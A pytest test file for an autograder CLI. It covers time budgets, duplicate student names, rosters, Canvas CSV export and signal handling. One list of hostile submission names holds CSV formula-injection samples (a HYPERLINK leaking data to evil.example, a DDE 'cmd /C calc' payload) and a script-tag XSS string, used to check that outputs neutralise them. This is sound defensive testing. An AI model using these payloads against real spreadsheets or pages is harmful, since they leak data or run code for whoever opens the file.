"""Grading a class that always answers: within a total time budget, with hostile names,
with two submissions of one name, and stopped by any signal; its students by name, a
roster's columns in every file, and the CSV Canvas's gradebook imports.

Every class here is made of the mini course's files, so each submission grades in seconds
except where a test makes it loop on purpose.
"""

import csv
import html
import json
import os
import signal
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from kata.cli import cli
from kata.course import load_course
from kata.instructor import gradebook, students
from kata.reporting import formats
from kata.reporting.intake import NOTHING_SUBMITTED
from kata.reporting.scoring import AS_GIVEN
from kata.results import CheckResult, ExerciseResult, Grading, Outcome
from kata.supervisor import runner

from .helpers import MINI, REPO

SOLVED = {f.name: f.read_text() for f in (MINI / "solutions").glob("*.py")}
STUBS = {f.name: f.read_text() for f in (MINI / "exercises").glob("*.py")}
GOOD_DRAW = "def draw" + SOLVED["01_demo.py"].split("def draw", 1)[1]
LOOPS_IN_DOUBLE = "import jax\n\ndef double(x):\n    while True:\n        pass\n\n" + GOOD_DRAW
LOOPS_ON_IMPORT = "import jax\n\nwhile True:\n    pass\n"


def submission(folder: Path, files: dict[str, str]) -> Path:
    folder.mkdir(parents=True)
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder


def kata_process(*args: str, cwd: Path, env: dict[str, str] | None = None, **popen):
    return subprocess.Popen(
        [sys.executable, "-m", "kata", "--course", str(MINI), *args],
        cwd=cwd,
        env={**os.environ, **(env or {})},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        **popen,
    )


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


# A total budget -------------------------------------------------------------------------

BUDGET_SECONDS = 120


@pytest.mark.slow
def test_a_class_with_endless_loops_is_graded_within_its_budget(tmp_path):
    """Each check may run 60 s (the default); a loop in one exercise costs only its share,
    and every other exercise of every submission still gets its verdict."""
    subs = tmp_path / "submissions"
    submission(subs / "correct", SOLVED)
    submission(subs / "loops_in_double", {**SOLVED, "01_demo.py": LOOPS_IN_DOUBLE})
    submission(subs / "loops_on_import", {**SOLVED, "01_demo.py": LOOPS_ON_IMPORT})
    submission(subs / "partial", {**STUBS, "02_other.py": SOLVED["02_other.py"]})
    out, json_path = tmp_path / "grades.csv", tmp_path / "grades.json"
    started = time.monotonic()
    process = kata_process(
        "grade", *sorted(str(p) for p in subs.iterdir()), "--out", str(out),
        "--json", str(json_path), "--jobs", "2", "--budget", str(BUDGET_SECONDS),
        cwd=tmp_path,
    )  # fmt: skip
    _, err = process.communicate(timeout=BUDGET_SECONDS + 60)
    seconds = time.monotonic() - started
    assert process.returncode == 0, err
    assert seconds < BUDGET_SECONDS, f"took {seconds:.0f} s of a {BUDGET_SECONDS} s budget"
    rows = {Path(r["submission"]).name: r for r in read_rows(out)}
    assert {name: (r["01_demo"], r["02_other"]) for name, r in rows.items()} == {
        "correct": ("1", "1"),
        "loops_in_double": ("0", "1"),  # double's task ends at its loop; draw passes, for no points
        "loops_on_import": ("0", "1"),
        "partial": ("0", "1"),
    }
    entries = {Path(e["submission"]).name: e for e in gradebook.read_entries(json_path)}
    double = entries["loops_in_double"]["exercises"]["01_demo"]["checks"]
    assert [c["outcome"] for c in double] == ["failed", "not run", "passed"], double
    assert "Timeout" in double[0]["message"]
    assert double[1]["message"].startswith("not reached: “double: doubles eagerly” ran out")
    on_import = entries["loops_on_import"]["exercises"]["01_demo"]["checks"]
    assert all(c["outcome"] != "passed" for c in on_import)
    assert all(c["message"] for c in on_import), "a check not reached must say why"


@pytest.mark.slow
def test_a_gradescope_run_answers_within_its_budget(tmp_path):
    """What run_autograder runs: a budget for the whole run, results.json always."""
    folder = submission(tmp_path / "upload", {**SOLVED, "01_demo.py": LOOPS_ON_IMPORT})
    results = tmp_path / "results.json"
    started = time.monotonic()
    process = kata_process(
        "check", "--cold", "--dir", str(folder), "--format", "gradescope", "--out",
        str(results), "--budget", "40", cwd=tmp_path,
    )  # fmt: skip
    _, err = process.communicate(timeout=120)
    seconds = time.monotonic() - started
    assert process.returncode == 1, err
    assert seconds < 40 + 10, f"took {seconds:.0f} s of a 40 s budget"
    tests = json.loads(results.read_text())["tests"]
    assert [t["status"] for t in tests if t["name"].startswith("02_other")] == ["passed"]
    looped = [t for t in tests if t["name"].startswith("01_demo")]
    assert looped and all(t["status"] == "failed" and t["output"] for t in looped), looped


def test_a_budget_is_shared_by_the_rounds_still_to_start():
    budget = gradebook.TimeBudget(100 + gradebook.STOPPING_SECONDS, submissions=5, jobs=2)
    shares = [budget.share() for _ in range(5)]
    # 5 submissions, 2 at a time: 3 rounds, then 2, 2, 1, 1 of the time still left.
    assert [round(s) for s in shares] == [33, 50, 50, 100, 100]


# Names are data --------------------------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1",
    "\rCR=1",
    "<script>alert('x')</script>&amp;",
    'new\nline, "quoted"',
    "名前 ü ñ 🎓",
    "x" * 240,
    "back\\slash",
]


def test_hostile_names_stay_data_in_every_format(tmp_path, monkeypatch):
    subs = tmp_path / "s"
    paths = [
        submission(subs / name, {"02_other.py": SOLVED["02_other.py"]}) for name in HOSTILE_NAMES
    ]
    out, json_path, report = tmp_path / "g.csv", tmp_path / "g.json", tmp_path / "r.html"
    lms, feedback = tmp_path / "canvas.csv", tmp_path / "feedback"
    monkeypatch.chdir(subs)  # each name starts its cell, as `kata grade *` in the class's folder
    result = CliRunner().invoke(
        cli,
        ["--course", str(MINI), "grade", "--out", str(out), "--json", str(json_path),
         "--report", str(report), "--lms-csv", str(lms), "--feedback", str(feedback),
         "--jobs", "2", "--", *HOSTILE_NAMES],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = read_rows(out)
    assert len(rows) == len(HOSTILE_NAMES)
    for row in [*rows, *read_rows(lms)]:
        for cell in row.values():
            assert not cell.startswith(formats.FORMULA_STARTS), f"a formula cell: {cell!r}"
    written = {row["submission"] for row in rows}
    # A student is their folder's name: "http://evil…/?leak=…" is three folders, the last named.
    labels = [Path(os.path.normpath(name)).name for name in HOSTILE_NAMES]
    for name in labels:
        expected = "'" + name if name.startswith(formats.FORMULA_STARTS) else name
        assert expected in written, f"{name!r} is not in the gradebook as text"
    entries = gradebook.read_entries(json_path)
    assert sorted(e["submission"] for e in entries) == sorted(labels)
    assert {e["id"] for e in entries} == {students.submission_id(p) for p in paths}
    page = report.read_text()
    assert "<script" not in page
    # A page and a text per student, each a plain file in the folder, whatever its name.
    pages = sorted(feedback.iterdir())
    assert len(pages) == 2 * len(HOSTILE_NAMES) and all(p.is_file() for p in pages)
    assert all("<script" not in p.read_text() for p in pages if p.suffix == ".html")


def test_text_a_learner_controls_keeps_junit_well_formed():
    course = load_course(MINI)
    nasty = '\x1b[31mred\x1b[0m \x07 \x00 <tag> ]]> & "q" 名前'
    check = CheckResult(
        id="c", exercise="01_demo", name=nasty, task=nasty, outcome=Outcome.FAILED,
        message=nasty, output=nasty, notes=[nasty],
    )  # fmt: skip
    grading = Grading(Path("/tmp"), [ExerciseResult(course.exercises[0], [check])])
    root = ET.fromstring(formats.to_junit(grading).encode())
    case = root.find(".//testcase")
    assert case is not None and "<tag> ]]> &" in case.get("name")
    assert "\\x1b[31mred" in case.find("failure").get("message")


# Two submissions of one name ---------------------------------------------------------------


def test_two_alice_folders_are_alice_and_alice_2_and_resume_keeps_both(tmp_path):
    first = submission(tmp_path / "a" / "alice", {"02_other.py": SOLVED["02_other.py"]})
    second = submission(tmp_path / "b" / "alice", {"02_other.py": STUBS["02_other.py"]})
    out = tmp_path / "grades.csv"

    def grade(*paths: str, resume: bool = False):
        args = ["--course", str(MINI), "grade", *paths, "--out", str(out), "--jobs", "1"]
        return CliRunner().invoke(cli, args + (["--resume"] if resume else []))

    assert grade(str(first)).exit_code == 0
    resumed = grade(str(first), str(second), resume=True)
    assert resumed.exit_code == 0, resumed.output
    assert "Grading 1 submission (1 already in" in resumed.output
    assert "Graded 1 submission into" in resumed.output
    rows = read_rows(out)
    assert [(r["submission"], r["02_other"]) for r in rows] == [("alice", "1"), ("alice-2", "0")]
    again = grade(f"{first}/", str(tmp_path / "b" / "." / "alice"), resume=True)
    assert "Graded 0 submissions" in again.output, "the same folders, written differently"
    assert len(read_rows(out)) == 2


def test_a_student_is_named_by_folder_or_archive_unique_in_the_class(tmp_path):
    """The stem of the folder or .zip, never the path; duplicates (case aside) numbered in
    their whole paths' order, whatever order they were given in, never taking a name
    another submission has."""
    paths = [tmp_path / "c" / "Alice.zip", tmp_path / "a" / "alice", tmp_path / "b" / "alice",
             tmp_path / "d" / "alice-2", tmp_path / "bob"]  # fmt: skip
    named = students.class_names({str(n): p for n, p in enumerate(paths)})
    assert [named[str(n)] for n in range(len(paths))] == [
        "Alice-4", "alice", "alice-3", "alice-2", "bob"
    ]  # fmt: skip
    backwards = students.class_names({str(n): p for n, p in reversed(list(enumerate(paths)))})
    assert backwards == named
    assert students.stem_of(Path("/")) == students.UNNAMED
    assert students.stem_of(Path("x") / ".." / "carol.zip") == "carol"


def test_an_upload_not_graded_says_why_in_every_output(tmp_path):
    """A folder named like an exercise file was only "missing": the CLI's line, the CSV's
    note, the JSON and the report say what it was and why it was not graded."""
    alice = submission(tmp_path / "alice", {"02_other.ipynb": "{}"})
    (alice / "01_demo.py").mkdir()
    out, json_path, report = tmp_path / "g.csv", tmp_path / "g.json", tmp_path / "r.html"
    result = CliRunner().invoke(
        cli,
        ["--course", str(MINI), "grade", str(alice), "--out", str(out), "--json",
         str(json_path), "--report", str(report), "--unconfined", "--allow-missing-layers"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    folder = "01_demo.py/ is a folder, not a file"
    notebook = "02_other.ipynb is a notebook"
    for said in (result.output, read_rows(out)[0]["notes"]):
        assert folder in said and notebook in said, said
    (entry,) = gradebook.read_entries(json_path)
    demo = entry["exercises"]["01_demo"]
    assert demo["not_graded"] and folder in demo["note"]
    page = report.read_text()
    assert folder in page and notebook in page and "not graded" in page


def test_untouched_stubs_and_an_empty_upload_are_said_once_and_never_run(tmp_path, monkeypatch):
    """A file that is its stub as given is "not started" without a check run (its checks,
    from the course, "not run"); an upload with no exercise file is "nothing submitted",
    once, in a row of the same columns, every score 0."""
    asked, grade = [], runner.grade

    def recorded(course, exercises, *args, **kwargs):
        asked.append([e.id for e in exercises])
        return grade(course, exercises, *args, **kwargs)

    monkeypatch.setattr(runner, "grade", recorded)
    (tmp_path / "empty").mkdir()
    crlf = {name: text.replace("\n", "\r\n") for name, text in STUBS.items()}
    submission(tmp_path / "stubs", crlf)
    out, json_path, report = tmp_path / "g.csv", tmp_path / "g.json", tmp_path / "r.html"
    result = CliRunner().invoke(
        cli,
        ["--course", str(MINI), "grade", str(tmp_path / "empty"), str(tmp_path / "stubs"),
         "--out", str(out), "--json", str(json_path), "--report", str(report),
         "--unconfined", "--allow-missing-layers"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert asked == [[], []], "no check of either submission ran"
    rows = {Path(r["submission"]).name: r for r in read_rows(out)}
    assert list(rows["empty"]) == gradebook.csv_header(["01_demo", "02_other"])
    scores = {name: (r["01_demo"], r["02_other"], r["total"]) for name, r in rows.items()}
    assert scores == {"empty": ("0", "0", "0"), "stubs": ("0", "0", "0")}
    assert rows["empty"]["notes"] == NOTHING_SUBMITTED
    assert rows["stubs"]["notes"] == f"01_demo: {AS_GIVEN}; 02_other: {AS_GIVEN}"
    entries = {Path(e["submission"]).name: e for e in gradebook.read_entries(json_path)}
    assert entries["empty"]["nothing_submitted"] and not entries["stubs"]["nothing_submitted"]
    stubs = entries["stubs"]["exercises"]
    assert [len(stubs[e]["checks"]) for e in ("01_demo", "02_other")] == [3, 1]
    assert {c["outcome"] for e in stubs.values() for c in e["checks"]} == {"not run"}
    assert all(e["not_started"] and e["score"] == 0 for e in stubs.values())
    page = report.read_text()
    assert "nothing submitted" in page and page.count("'tag idle'>not started<") == 2


def test_a_file_that_does_not_load_is_said_alike_in_the_gradebook_and_the_report(tmp_path):
    broken = submission(tmp_path / "broken", {"01_demo.py": "def double(x)\n    return 2 * x\n"})
    out, json_path, report = tmp_path / "g.csv", tmp_path / "g.json", tmp_path / "r.html"
    result = CliRunner().invoke(
        cli,
        ["--course", str(MINI), "grade", str(broken), "--out", str(out), "--json",
         str(json_path), "--report", str(report), "--timeout", "30"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    (row,) = read_rows(out)
    assert "01_demo: SyntaxError" in row["notes"] and "01_demo.py, line 1" in row["notes"], row
    (entry,) = gradebook.read_entries(json_path)
    said = entry["exercises"]["01_demo"]["note"].splitlines()[0]
    assert said in row["notes"] and html.escape(said) in report.read_text()


def test_a_gradebook_of_other_columns_is_not_continued(tmp_path):
    out = tmp_path / "grades.csv"
    out.write_text("submission,01_demo,02_other,total,max,notes\nalice,1,1,2,2,\n")
    folder = submission(tmp_path / "alice", {"02_other.py": SOLVED["02_other.py"]})
    result = CliRunner().invoke(
        cli, ["--course", str(MINI), "grade", str(folder), "--out", str(out), "--resume"]
    )
    assert result.exit_code == 2 and "columns" in result.output, result.output
    assert "Traceback" not in result.output


# Students by name, a roster's columns, Canvas's gradebook -----------------------------------

# As a spreadsheet saves "CSV UTF-8": a byte-order mark, Windows' line ends, a quoted comma.
ROSTER = (
    "Submission,student_id,name,email\r\n"
    'ada,s-001,"Lovelace, Ada",ada@example.org\r\n'
    "bo,s-002,Bo Beaumont,bo@example.org\r\n"
    "cy,s-003,Cy Young,cy@example.org\r\n"
    "dee,s-004,Dee Dunn,dee@example.org\r\n"
    ",,,\r\n"
)


@pytest.fixture(scope="module")
def rostered_class(tmp_path_factory):
    """ada solved 02, bo.zip holds its stub, cy's is wrong, zed is not on the roster, and
    dee, on it, submitted nothing; graded into every file an instructor shares."""
    root = tmp_path_factory.mktemp("rostered")
    subs = root / "class"
    submission(subs / "ada", {"02_other.py": SOLVED["02_other.py"]})
    submission(subs / "cy", {"02_other.py": "def answer():\n    return 41\n"})
    submission(subs / "zed", {"02_other.py": SOLVED["02_other.py"]})
    with zipfile.ZipFile(subs / "bo.zip", "w") as archive:
        archive.writestr("bo/02_other.py", STUBS["02_other.py"])
    (root / "roster.csv").write_text(ROSTER, encoding="utf-8-sig", newline="")
    out = root / "out"
    out.mkdir()
    result = CliRunner().invoke(
        cli,
        ["--course", str(MINI), "grade", *sorted(str(p) for p in subs.iterdir()),
         "--roster", str(root / "roster.csv"), "--out", str(out / "grades.csv"),
         "--json", str(out / "grades.json"), "--report", str(out / "report.html"),
         "--lms-csv", str(out / "canvas.csv"), "--jobs", "2"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return root


def test_a_roster_reaches_the_gradebook_its_json_and_the_report(rostered_class):
    out = rostered_class / "out"
    rows = {row["submission"]: row for row in read_rows(out / "grades.csv")}
    assert list(rows) == ["ada", "bo", "cy", "dee", "zed"]
    said = {name: (r["student_id"], r["name"], r["email"], r["total"]) for name, r in rows.items()}
    assert said == {
        "ada": ("s-001", "Lovelace, Ada", "ada@example.org", "1"),
        "bo": ("s-002", "Bo Beaumont", "bo@example.org", "0"),
        "cy": ("s-003", "Cy Young", "cy@example.org", "0"),
        "dee": ("s-004", "Dee Dunn", "dee@example.org", "0"),
        "zed": ("", "", "", "1"),  # not on the roster, graded all the same
    }
    assert rows["zed"]["notes"].startswith(students.NOT_ON_ROSTER)
    assert rows["dee"]["notes"] == students.NO_SUBMISSION
    entries = {e["submission"]: e for e in gradebook.read_entries(out / "grades.json")}
    assert entries["ada"]["roster"] == {
        "student_id": "s-001", "name": "Lovelace, Ada", "email": "ada@example.org"
    }  # fmt: skip
    assert entries["zed"]["roster"] is None and entries["zed"]["not_on_roster"]
    assert entries["dee"]["nothing_submitted"] and not entries["dee"]["not_on_roster"]
    page = (out / "report.html").read_text()
    assert html.escape("s-001 · Lovelace, Ada · ada@example.org") in page
    assert page.count("not on the roster") == 1 and "nothing submitted" in page


def test_no_file_shared_names_a_folder_of_the_grading_machine(rostered_class):
    """Students by name, messages relative to the upload: the class's folder, the course's,
    kata's and the grader's temporary ones appear in none of what an instructor shares."""
    places = [str(rostered_class), str(MINI), str(REPO), sys.prefix, "/tmp/"]
    for path in (rostered_class / "out").iterdir():
        text = path.read_text(encoding="utf-8")
        assert not [p for p in places if p in text], path.name


def test_the_lms_csv_is_in_the_shape_canvas_s_gradebook_imports(rostered_class):
    with (rostered_class / "out" / "canvas.csv").open(newline="", encoding="utf-8") as stream:
        header, points, *rows = list(csv.reader(stream))
    assert header == [*formats.CANVAS_COLUMNS, "01_demo", "02_other"]
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert points == ["Points Possible", "", "", "", "", "1", "1"]
    assert rows == [
        ["Lovelace, Ada", "", "s-001", "ada@example.org", "", "0", "1"],
        ["Bo Beaumont", "", "s-002", "bo@example.org", "", "0", "0"],
        ["Cy Young", "", "s-003", "cy@example.org", "", "0", "0"],
        ["Dee Dunn", "", "s-004", "dee@example.org", "", "0", "0"],
        ["zed", "", "", "", "", "0", "1"],
    ]


@pytest.mark.parametrize(
    ("roster", "said"),
    [
        (None, "cannot read the roster"),
        ("name,email\nAda,a@example.org\n", "has no submission column"),
        ("submission,nmae\nada,Ada\n", "a column kata does not know, 'nmae'"),
        ("submission,submission\nada,ada\n", "has two submission columns"),
        ("submission,name\nada,Ada\nADA,Ada again\n", "row 3: 'ADA' again (row 2 names it"),
        ("submission,name\nada\n", "row 2: 1 cell where its header has 2"),
        ("submission,name\n,Ada\n", "row 2: no submission name"),
        ("submission,name\n", "lists no student"),
        (b"submission,name\nada,\xe9\n", "it is not UTF-8 text"),
        ("folder", "Is a directory"),
    ],
)
def test_a_roster_that_cannot_be_used_is_one_line_and_exit_2(tmp_path, roster, said):
    path = tmp_path / "roster.csv"
    if roster == "folder":
        path.mkdir()
    elif roster is not None:
        path.write_bytes(roster if isinstance(roster, bytes) else roster.encode())
    folder = submission(tmp_path / "ada", {"02_other.py": SOLVED["02_other.py"]})
    out = tmp_path / "grades.csv"
    result = CliRunner().invoke(
        cli,
        ["--course", str(MINI), "grade", str(folder), "--roster", str(path), "--out", str(out)],
    )
    assert result.exit_code == 2 and said in result.output, result.output
    assert len(result.output.strip().splitlines()) == 1 and "Traceback" not in result.output
    assert not out.exists()


# Stopping -----------------------------------------------------------------------------------


def processes_using(scratch: Path) -> list[int]:
    """Processes whose environment names `scratch` (every grading process has it in TMPDIR)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and str(scratch).encode() in (entry / "environ").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def test_a_stop_signal_cancels_the_runs_and_raises_only_where_the_loop_stops():
    """The handler itself raises nothing (raised inside concurrent.futures' `wait`, it
    could leave a lock held and `kata grade` hung): it sets the runs' cancel, the loop's
    stop point raises Stopped, and a second signal is ignored."""
    assert threading.current_thread() is threading.main_thread()  # else no handler is set
    cancel = threading.Event()
    before = signal.getsignal(signal.SIGHUP)
    with gradebook.stopped_by_signals(cancel) as stop_point:
        stop_point()  # no signal yet: nothing happens
        os.kill(os.getpid(), signal.SIGHUP)
        os.kill(os.getpid(), signal.SIGTERM)  # ignored: the first one is the stop
        assert cancel.is_set()
        with pytest.raises(gradebook.Stopped) as stopped:
            stop_point()
    assert stopped.value.signum == signal.SIGHUP
    assert signal.getsignal(signal.SIGHUP) == before


@pytest.mark.slow
@pytest.mark.parametrize(
    "stop", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT], ids=lambda stop: stop.name
)
def test_a_signal_mid_grade_removes_every_copy_and_resume_finishes(tmp_path, stop):
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    subs = tmp_path / "subs"
    paths = [
        submission(subs / "s1", {"02_other.py": SOLVED["02_other.py"]}),
        submission(subs / "s2", {"01_demo.py": LOOPS_IN_DOUBLE}),
        submission(subs / "s3", {"01_demo.py": LOOPS_IN_DOUBLE}),
    ]
    out = tmp_path / "grades.csv"
    args = ["grade", *map(str, paths), "--out", str(out), "--jobs", "1"]
    process = kata_process(*args, cwd=tmp_path, env={"TMPDIR": str(scratch)})
    deadline = time.monotonic() + 120
    # Stop it while s2 loops: one row written, a run's scratch folder in use.
    while not (
        out.exists() and len(read_rows(out)) == 1 and len(list(scratch.glob("kata-*"))) >= 2
    ):
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline, "grading never reached the second submission"
        time.sleep(0.1)
    process.send_signal(stop)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 128 + stop, err
    assert "--resume" in err and "Traceback" not in err
    assert list(scratch.iterdir()) == [], "temporary copies were left behind"
    assert not processes_using(scratch), "a grading process outlived the run"
    assert [Path(r["submission"]).name for r in read_rows(out)] == ["s1"]
    resumed = kata_process(*args, "--resume", "--timeout", "3", cwd=tmp_path)
    _, err = resumed.communicate(timeout=300)
    assert resumed.returncode == 0, err
    assert [Path(r["submission"]).name for r in read_rows(out)] == ["s1", "s2", "s3"]
